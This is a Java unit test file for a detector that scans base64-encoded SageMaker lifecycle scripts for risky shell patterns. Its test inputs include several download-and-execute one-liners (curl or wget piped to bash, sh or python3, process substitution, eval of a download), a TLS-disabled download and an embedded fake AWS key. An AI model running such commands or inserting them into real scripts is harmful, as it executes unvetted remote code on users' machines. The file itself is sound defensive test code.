package dev.aispm.collectors.aws.sagemaker;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class LifecycleScriptsTest {
  static String b64(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_8));
  }

  static LifecycleScripts.Findings of(String... scripts) {
    return LifecycleScripts.analyse(Arrays.stream(scripts).map(LifecycleScriptsTest::b64).toList());
  }

  @Test
  void downloadsExecutedUnseenAreRemoteExecution() {
    assertThat(of("curl -s https://x.example/a.sh | bash").patterns()).containsExactly("pipe-to-shell");
    assertThat(of("wget -qO- https://x.example/a.sh | sudo -E sh").remoteExecution()).isTrue();
    assertThat(of("curl -fsSL https://x.example/i.py | python3 -").patterns()).containsExactly("pipe-to-shell");
    assertThat(of("bash <(curl -s https://x.example/a.sh)").patterns()).containsExactly("process-substitution");
    assertThat(of("eval \"$(curl -s https://x.example/env)\"").patterns()).containsExactly("eval-download");
    assertThat(of("curl -s \\\n  https://x.example/a.sh \\\n  | bash").remoteExecution())
        .as("line continuations are one command").isTrue();
  }

  @Test
  void otherRiskyPatternsAreFlaggedWithoutBeingRemoteExecution() {
    LifecycleScripts.Findings f = of("curl -k -o /tmp/x http://mirror.example/x.tgz\n"
        + "pip install --trusted-host mirror.example foo\nexport AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP\n");
    assertThat(f.remoteExecution()).isFalse();
    assertThat(f.patterns()).containsExactly("embedded-aws-key", "plain-http-download", "tls-verification-disabled");
    assertThat(f.urls()).containsExactly("http://mirror.example/x.tgz");
  }

  @Test
  void aPinnedInstallIsCleanAndAnUndecodableScriptIsUnknown() {
    LifecycleScripts.Findings clean = of("#!/bin/bash\nset -e\npip install --index-url https://pypi.internal/simple x==1.0\n"
        + "curl -fsSL -o /tmp/tool.tgz https://tools.example/tool.tgz && sha256sum -c tool.sha256\n");
    assertThat(clean.remoteExecution()).isFalse();
    assertThat(clean.patterns()).isEmpty();
    assertThat(clean.sha256()).hasSize(64);

    LifecycleScripts.Findings odd = LifecycleScripts.analyse(List.of("***not base64***"));
    assertThat(odd.remoteExecution()).isNull();
    assertThat(odd.patterns()).containsExactly("undecodable");
    assertThat(odd.sha256()).isNull();
    assertThat(LifecycleScripts.analyse(List.of()).remoteExecution()).as("no scripts at all").isFalse();
  }
}
